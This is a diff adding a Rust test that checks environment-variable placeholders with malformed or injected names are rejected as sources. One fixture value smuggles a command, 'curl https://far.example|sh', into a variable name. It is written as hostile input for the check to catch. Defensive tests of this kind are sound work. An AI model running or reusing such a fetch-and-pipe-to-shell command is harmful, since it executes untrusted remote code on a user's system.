@@ -132,6 +132,18 @@ fn value_that_refers_to_anything_else_has_no_source() {
 }
 
 #[test]
+fn name_that_imitates_other_text_has_no_source() {
+    let server = local_server(&json!({
+        "COMMAND": "${env:AREA; curl https://far.example|sh}",
+        "WORDS": "${env:AREA from the example}",
+        "QUOTED": "${env:AREA'}",
+        "LETTER": "${env:ÁREA}",
+        "WINDOWS": "${env:ProgramFiles(x86)}",
+    }));
+    assert_eq!(server.sources.keys().collect::<Vec<_>>(), ["WINDOWS"], "{:?}", server.sources);
+}
+
+#[test]
 fn taken_text_never_refers_to_a_stored_secret() {
     let mut server = local_server(&json!({ "PLACE": "$${env:TRICK}" }));
     take(&mut server, &["PLACE"]);
